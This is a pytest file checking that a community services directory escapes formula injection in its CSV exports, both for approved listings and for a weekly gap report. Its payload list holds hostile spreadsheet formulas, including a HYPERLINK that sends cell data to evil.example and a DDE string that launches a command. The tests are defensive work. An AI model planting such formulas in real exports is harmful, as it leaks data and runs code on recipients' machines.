"""CSV formula injection (issue 16, finding 4): what a group types, once approved, is
exported so that no spreadsheet runs it — in the ORUK CSV export and in the gap report."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import select

from directory.connect.gaps import gap_csv
from directory.csv_safety import PLAIN_NUMBER, neutralise_cell
from directory.models import GapCount, Service
from tests.moderate.conftest import moderator_client, seeded_client  # noqa: F401  (fixtures)
from tests.moderate.test_moderation import approve_via_queue, pending
from tests.submit.support import POLISH_WALK, post_listing

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "@cmd",
            "-Leicester", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised_with_a_leading_quote(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Yoga for over-50s", "-1.1341", "52.6369", "+44", "", None, 3])
def test_ordinary_text_and_plain_numbers_are_left_alone(value):
    assert neutralise_cell(value) == value


def dangerous(cell: str) -> bool:
    """What a spreadsheet would treat as a formula: the first character after any leading
    tabs and carriage returns (which Excel skips)."""
    return cell.lstrip("\t\r")[:1] in {"=", "+", "-", "@"} and not cell.startswith("'") \
        and not PLAIN_NUMBER.fullmatch(cell)


def test_a_submitted_then_approved_listing_exports_no_formula(app, seeded_db, seeded_client, moderator_client):
    answers = dict(POLISH_WALK, name=PAYLOADS[0], description=PAYLOADS[1], organization_name="\t=1+1",
                   contact_name="@cmd", address_1="-Leicester", name_en="+SUM(1+1)", description_en="=1+1")
    response = post_listing(seeded_client, answers)
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    approve_via_queue(moderator_client, pending(seeded_db).id)
    with seeded_db.session() as session:
        service_id = session.scalars(select(Service.id).where(Service.name == PAYLOADS[0])).one()
    exported = seeded_client.get("/api/export/csv")
    assert exported.status_code == 200
    rows = [row for row in csv.DictReader(io.StringIO(exported.get_data(as_text=True))) if service_id in row.values()]
    assert rows
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if dangerous(cell)]
    assert f"'{PAYLOADS[0]}" in cells and "'=1+1" in cells and "'@cmd" in cells and "'-Leicester" in cells


def test_the_gap_report_csv_neutralises_its_cells_too(db):
    with db.session() as session:
        session.add(GapCount(week=dt.date(2026, 11, 30), district="=1+1", category="@cmd", language="-x", count=2))
    with db.session() as session:
        rows = list(csv.reader(io.StringIO(gap_csv(session))))
    assert rows[1][:3] == ["'=1+1", "'@cmd", "'-x"]
